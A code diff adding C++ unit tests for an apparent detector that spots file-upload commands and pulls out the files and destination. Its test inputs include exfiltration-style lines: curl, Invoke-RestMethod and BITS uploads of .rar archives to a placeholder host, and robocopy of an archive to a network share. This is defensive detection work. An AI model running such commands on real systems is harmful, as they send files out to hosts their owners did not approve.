@@ -69,6 +69,64 @@ INSTANTIATE_TEST_SUITE_P(
                     "ftp h.example", "certreq -submit x.req", "x.exe copy C:\\a r:b",
                     "Invoke-WebRequest http://h.example -OutFile x", "type curl", "xcopy", ""));
 
+TEST(TransferCommand, ValuesOfOptionsAreNoAddresses) {
+  for (const char* line : {"curl -T g.rar https://h.example/up -x http://proxy:8080",
+                           "curl -x http://proxy:8080 -X PUT -sST g.rar https://h.example/up",
+                           "curl --request PUT -H \"A: b\" -u u:p -T g.rar https://h.example/up",
+                           "curl -A agent -b c=d -o out.txt -e http://r -Tg.rar --url "
+                           "https://h.example/up"}) {
+    const auto found = transfer_commands(line);
+    ASSERT_EQ(found.size(), 1U) << line;
+    EXPECT_EQ(found[0].destination, "https://h.example/up") << line;
+    EXPECT_THAT(found[0].files, ElementsAre("g.rar")) << line;
+  }
+}
+
+TEST(TransferCommand, OfPowerShellOnlyWhatTheCommandItselfSends) {
+  auto found = transfer_commands(
+      "Start-Transcript -Path \"C:\\T\\log.txt\"; Invoke-RestMethod -Uri https://h.example/u "
+      "-Method Post -InFile $f");
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_THAT(found[0].files, IsEmpty());
+  EXPECT_EQ(found[0].destination, "https://h.example/u");
+  found = transfer_commands(
+      "Start-Transcript -Path \"C:\\T\\log.txt\"\n$r = (Invoke-RestMethod -InFile C:\\T\\1.rar "
+      "-Uri 'https://h.example/u')\nCopy-Item 'C:\\a\\b.rar' C:\\c");
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_THAT(found[0].files, ElementsAre("C:\\T\\1.rar"));
+  found = transfer_commands(
+      "$p = 'C:\\x\\y.txt'; Start-BitsTransfer -Source \"C:\\a b\\1.rar\" -Destination "
+      "http://h.example/u -TransferType Upload");
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_THAT(found[0].files, ElementsAre("C:\\a b\\1.rar"));
+  EXPECT_EQ(found[0].destination, "http://h.example/u");
+  EXPECT_THAT(transfer_commands("Invoke-RestMethod https://h.example; x -InFile C:\\1.rar"),
+              IsEmpty());
+}
+
+TEST(TransferCommand, FilesOfOneCommandAreLimitedAndCounted) {
+  std::string line = "curl https://h.example";
+  for (std::size_t i = 0; i < kMaxTransferFiles + 3; ++i)
+    line += " -T C:\\D\\" + std::to_string(i) + ".zip";
+  const auto found = transfer_commands(line);
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_EQ(found[0].files.size(), kMaxTransferFiles);
+  EXPECT_EQ(found[0].left_out, 3U);
+}
+
+TEST(TransferCommand, LongScriptsAreReadSoon) {
+  std::string script;
+  for (int i = 0; i < 200'000; ++i) script += "iwr 'a' ";
+  EXPECT_THAT(transfer_commands(script + "-InFile x.rar"), IsEmpty());
+}
+
+TEST(TransferCommand, RobocopyOfAnArchiveToAShare) {
+  const auto found = transfer_commands("robocopy C:\\PerfLogs \\\\srv\\x 1.rar /Z");
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_THAT(found[0].files, ElementsAre("C:\\PerfLogs\\1.rar"));
+  EXPECT_THAT(transfer_commands("robocopy D:\\x \\\\srv\\b /MIR"), IsEmpty());
+}
+
 TEST(TransferCommand, TellsNoPasswords) {
   const auto found = transfer_commands("curl -T 1.rar ftp://u:S3cret@h.example/");
   ASSERT_EQ(found.size(), 1U);
